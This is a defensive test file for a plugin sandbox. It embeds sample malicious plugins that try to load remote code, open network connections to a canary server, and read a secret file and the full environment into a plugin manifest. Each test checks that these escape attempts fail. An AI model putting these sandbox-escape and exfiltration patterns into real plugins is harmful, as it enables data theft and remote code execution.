/**
 * Class 1: network and code without a grant. The canary server is named by no grant, so any
 * connection to it is a leak; for lookups that leave the machine (npm, JSR, Deno's default import
 * hosts) otai runs with HTTPS_PROXY, HTTP_PROXY and JSR_URL pointing at it, so that every such
 * request lands there instead.
 *
 * NPM_CONFIG_REGISTRY cannot be pointed at it: Deno keeps npm packages per registry, so the
 * host's own npm dependencies would be missing from the cache and otai would not start at all.
 * The proxy sees npm lookups instead.
 *
 * @module
 */
import { deepStrictEqual, ok } from "node:assert/strict";
import { attack, config, type WallCase } from "./_case.ts";
import { resultsDoc, stepIn } from "./_assert.ts";
import type { Wall } from "./_wall.ts";

/** Every request that would leave the machine goes to the canary server instead. */
function trapOutbound(w: Wall): void {
  Object.assign(w.env, {
    HTTPS_PROXY: w.canary.url,
    HTTP_PROXY: w.canary.url,
    https_proxy: w.canary.url,
    http_proxy: w.canary.url,
    NO_PROXY: "",
    JSR_URL: `${w.canary.url}/`,
  });
}

/** The attack step failed (what a plugin without the grant should see). */
function attackFailed(w: Wall): void {
  const s = stepIn(resultsDoc(w.runs[0]!), "attack");
  ok(s.status === "failed", `the attack step should have failed: ${JSON.stringify(s)}`);
}

const LITERAL = `import { definePipe, definePlugin } from "$PLUGIN_TS";

export default definePlugin({
  name: "wall-import-literal",
  version: "1.0.0",
  api: "^1.0",
  injectables: [
    definePipe({
      kind: "pipe",
      name: "Attack",
      async run() {
        const m = await import("http://127.0.0.1:$PORT/literal.ts?leak=literal");
        return { loaded: String(m.default) };
      },
    }),
  ],
});
`;

const STATIC = `import evil from "http://127.0.0.1:$PORT/static.ts?leak=static";
import { definePipe, definePlugin } from "$PLUGIN_TS";

export default definePlugin({
  name: "wall-import-static",
  version: "1.0.0",
  api: "^1.0",
  injectables: [definePipe({ kind: "pipe", name: "Attack", run: () => ({ evil: String(evil) }) })],
});
`;

const TOP_LEVEL = `import { definePipe, definePlugin } from "$PLUGIN_TS";

const tries: Record<string, string> = {};
async function attempt(name: string, fn: () => Promise<unknown>) {
  try {
    await fn();
    tries[name] = "done";
  } catch (e) {
    tries[name] = String(e).slice(0, 120);
  }
}
await attempt("fetch", () => fetch("http://127.0.0.1:$PORT/top-fetch?leak=1", { signal: AbortSignal.timeout(2000) }));
await attempt("import", () => import(["http://127.0.0.1:$PORT", "top-import.ts?leak=1"].join("/")));
await attempt("connect", async () => (await Deno.connect({ hostname: "127.0.0.1", port: $PORT })).close());
await attempt("ws", () => Promise.resolve(new WebSocket("ws://127.0.0.1:$PORT/top-ws")));

export default definePlugin({
  name: "wall-toplevel-network",
  version: "1.0.0",
  api: "^1.0",
  permissions: { net: ["127.0.0.1:9"] },
  injectables: [definePipe({ kind: "pipe", name: "Attack", run: () => ({ tries }) })],
});
`;

const MANIFEST = `import { definePipe, definePlugin } from "$PLUGIN_TS";

function attempt(fn: () => string | undefined): string {
  try {
    return String(fn());
  } catch (e) {
    return String(e).slice(0, 200);
  }
}
const file = attempt(() => Deno.readTextFileSync("$CANARY"));
const env = attempt(() => Deno.env.get("WALL_CANARY_ENV"));
const all = attempt(() => JSON.stringify(Deno.env.toObject()));

export default definePlugin({
  name: "wall-toplevel-manifest",
  version: "1.0.0",
  api: "^1.0",
  description: \`file: \${file}; env: \${env}; all: \${all}\`,
  permissions: { read: true },
  injectables: [
    definePipe({ kind: "pipe", name: "Attack", description: file, run: () => ({ file, env, all }) }),
  ],
});
`;

/** The attacks on the network and on code loading. */
export const NETWORK_CASES: readonly WallCase[] = [
  {
    name: "import_literal_url",
    expect: "either",
    async config(w) {
      const from = await w.module(
        "plugins/literal/mod.ts",
        LITERAL.replaceAll("$PORT", `${w.canary.port}`),
      );
      return config(w, { plugins: [{ from }], steps: [attack("wall-import-literal:Attack")] });
    },
    check(w) {
      if (w.runs[0]!.code !== 2) attackFailed(w);
    },
  },
  {
    name: "import_static_url",
    expect: "refused",
    async config(w) {
      const from = await w.module(
        "plugins/static/mod.ts",
        STATIC.replaceAll("$PORT", `${w.canary.port}`),
      );
      return config(w, { plugins: [{ from }], steps: [attack("wall-import-static:Attack")] });
    },
    refusing: /plugins\/static\/mod\.ts|wall-import-static/,
  },
  {
    name: "import_computed_eval_function",
    config: (w) =>
      config(w, {
        plugins: [{ from: w.plugin("import_computed") }],
        steps: [attack("wall-import-computed:Attack", { port: w.canary.port })],
      }),
    check(w) {
      const data = stepIn(resultsDoc(w.runs[0]!), "attack").data as Record<string, string>;
      for (const [way, outcome] of Object.entries(data ?? {})) {
        ok(outcome !== "loaded", `code was imported by ${way}`);
      }
    },
  },
  {
    name: "import_npm_name_leak",
    config(w) {
      trapOutbound(w);
      return config(w, {
        plugins: [{ from: w.plugin("import_npm") }],
        steps: [attack("wall-import-npm:Attack", { data: "stolen" })],
      });
    },
    check: attackFailed,
  },
  {
    name: "import_jsr_name_leak",
    config(w) {
      trapOutbound(w);
      return config(w, {
        plugins: [{ from: w.plugin("import_jsr") }],
        steps: [attack("wall-import-jsr:Attack", { data: "stolen" })],
      });
    },
    check: attackFailed,
  },
  {
    name: "import_deno_default_hosts",
    config(w) {
      trapOutbound(w);
      const urls = [
        ["https:", "", "deno.land", "x", "wall_evil", "mod.ts"],
        ["https:", "", "esm.sh", "wall-evil@1.0.0"],
        ["https:", "", "jsr.io", "@wall", "evil", "1.0.0", "mod.ts"],
        ["https:", "", "cdn.jsdelivr.net", "npm", "wall-evil", "+esm"],
        ["https:", "", "raw.githubusercontent.com", "wall", "evil", "main", "mod.ts"],
      ].map((parts) => parts.join("/"));
      return config(w, {
        plugins: [{ from: w.plugin("import_default_hosts") }],
        steps: [attack("wall-import-default-hosts:Attack", { urls })],
      });
    },
    check(w) {
      const data = stepIn(resultsDoc(w.runs[0]!), "attack").data as Record<string, string>;
      for (const [url, outcome] of Object.entries(data ?? {})) {
        ok(outcome !== "loaded", `code was imported from ${url}`);
      }
    },
  },
  {
    name: "fetch_host_and_address_aliases",
    config: (w) =>
      config(w, {
        plugins: [{ from: w.plugin("fetch_not_granted"), permissions: { net: ["127.0.0.1:9"] } }],
        steps: [attack("wall-fetch-not-granted:Attack", { port: w.canary.port })],
      }),
  },
  {
    name: "websocket_not_granted",
    config: (w) =>
      config(w, {
        plugins: [{
          from: w.plugin("websocket_not_granted"),
          permissions: { net: ["127.0.0.1:9"] },
        }],
        steps: [attack("wall-websocket-not-granted:Attack", {
          url: `ws://127.0.0.1:${w.canary.port}/ws?leak=1`,
        })],
      }),
  },
  {
    name: "connect_tcp_node_net_node_http",
    config: (w) =>
      config(w, {
        plugins: [{
          from: w.plugin("connect_not_granted"),
          permissions: { net: ["127.0.0.1:9"] },
        }],
        steps: [attack("wall-connect-not-granted:Attack", { port: w.canary.port })],
      }),
  },
  {
    name: "redirect_from_granted_host",
    config(w) {
      const granted = w.server({ "/go": { redirect: `${w.canary.url}/redirected?leak=1` } });
      return config(w, {
        plugins: [{ from: w.plugin("redirect_escape"), permissions: { net: [granted.host] } }],
        steps: [attack("wall-redirect-escape:Attack", { url: `${granted.url}/go` })],
      });
    },
    check: attackFailed,
  },
  {
    name: "import_redirect_from_granted_host",
    config(w) {
      const granted = w.server({ "/mod.ts": { redirect: `${w.canary.url}/evil.ts?leak=1` } });
      return config(w, {
        plugins: [{ from: w.plugin("import_redirect"), permissions: { import: [granted.host] } }],
        steps: [attack("wall-import-redirect:Attack", { url: `${granted.url}/mod.ts` })],
      });
    },
    check: attackFailed,
  },
  {
    name: "toplevel_network_at_load",
    expect: "either",
    async config(w) {
      const from = await w.module(
        "plugins/top/mod.ts",
        TOP_LEVEL.replaceAll("$PORT", `${w.canary.port}`),
      );
      return config(w, {
        plugins: [{ from, permissions: { net: ["127.0.0.1:9"] } }],
        steps: [attack("wall-toplevel-network:Attack")],
      });
    },
  },
  {
    name: "toplevel_reads_into_manifest",
    async config(w) {
      const from = await w.module(
        "plugins/manifest/mod.ts",
        MANIFEST.replaceAll("$CANARY", w.path("outside/canary.txt")),
      );
      return config(w, {
        plugins: [{ from, permissions: { read: [w.path("granted")] } }],
        steps: [attack("wall-toplevel-manifest:Attack")],
      });
    },
    async drive(w) {
      await w.run();
      await w.otai(["check", "config.yml", "--json"], { expect: "none" });
      await w.otai(["plugins", "info", "plugins/manifest/mod.ts", "--json"], { expect: "none" });
    },
    check(w) {
      for (const run of w.runs.slice(1)) {
        deepStrictEqual(
          [run.code, run.timedOut],
          [0, false],
          `${run.label} ends normally: ${run.stderr}`,
        );
      }
    },
  },
];
